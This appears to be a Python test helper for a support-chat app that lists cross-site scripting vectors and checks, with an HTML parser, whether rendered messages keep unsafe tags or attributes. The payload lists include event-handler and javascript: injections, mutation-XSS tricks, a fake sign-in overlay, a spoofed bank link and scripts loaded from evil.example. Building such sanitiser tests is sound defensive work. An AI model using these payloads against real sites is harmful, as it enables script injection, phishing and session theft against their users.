"""Messages that try to run, to ask a server or to hide; and what a browser would make of html."""

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from random import Random

TEXT = "Where is my order?"
_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationend")
_CARRIERS = ("img src=x", "svg", "body", "details open", "input autofocus", "video", "a href=#")
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:x",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "funneldesk://editor/",
    "chrome://settings",
    "//evil.example/x",
)
_PLACES = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<form action="{}"><input></form>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
)
_WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Sign in again</div>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    "<table background='//evil.example/x'><tr><td>x</td></tr></table>",
    "<img srcset='//evil.example/x 1x' src='https://evil.example/x'>",
    "<audio src='//evil.example/x' autoplay></audio>",
    "<video poster='//evil.example/x'></video>",
    "<input type=image src='//evil.example/x'>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='https://evil.example' target=_top ping='//evil.example'>https://bank.example</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
)
VECTORS = (
    *(f"<{carrier} {handler}=alert(1)>" for carrier, handler in product(_CARRIERS, _HANDLERS)),
    *(place.format(scheme) for place, scheme in product(_PLACES, _SCHEMES)),
    *_WHOLE,
    *(f"<b><i><p>{vector}" for vector in _WHOLE),
)
_TAGS = {
    *("a", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "hr", "i"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "img", "ins", "li", "ol", "p", "pre", "q", "s"),
    *("small", "span", "strike", "strong", "sub", "sup", "u", "ul"),
    *("table", "tbody", "td", "tfoot", "th", "thead", "tr"),
}
_LINKS = ("http:", "https:", "mailto:", "tel:")
_ATTRIBUTES = {"href", "src", "alt", "rel", "colspan", "rowspan", "start", "dir"}


class Read(HTMLParser):
    """What a browser would make of html: ``wrong`` is what must not be in it; ``ours`` are tags
    and attributes of the page that a message stands in."""

    def __init__(self, html: str, ours: frozenset[str] = frozenset()) -> None:
        super().__init__()
        self._ours = ours
        self.wrong: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS | self._ours:
            self.wrong.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            asks = name == "src" and not address.startswith("data:image/")
            leads = name == "href" and ":" in address and not address.startswith(_LINKS)
            if (name, value) == ("class", "typed"):
                continue  # Our own: text that is shown as it was typed.
            if name not in _ATTRIBUTES | self._ours or asks or leads:
                self.wrong.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data


def mutated(count: int, seed: int = 13) -> Iterator[str]:
    """Vectors cut anywhere, put into each other, with letters doubled or in the other case."""
    chance = Random(seed)
    for _ in range(count):
        first, second = chance.sample(VECTORS, 2)
        at, end = chance.randrange(len(first)), chance.randrange(1, len(second))
        piece = f"{first[:at]}{second[:end]}{first[at:]}"
        place = chance.randrange(len(piece))
        letter = chance.choice((piece[place] * 2, piece[place].swapcase(), "", "\x00", "\n"))
        yield f"{piece[:place]}{letter}{piece[place + 1 :]}"
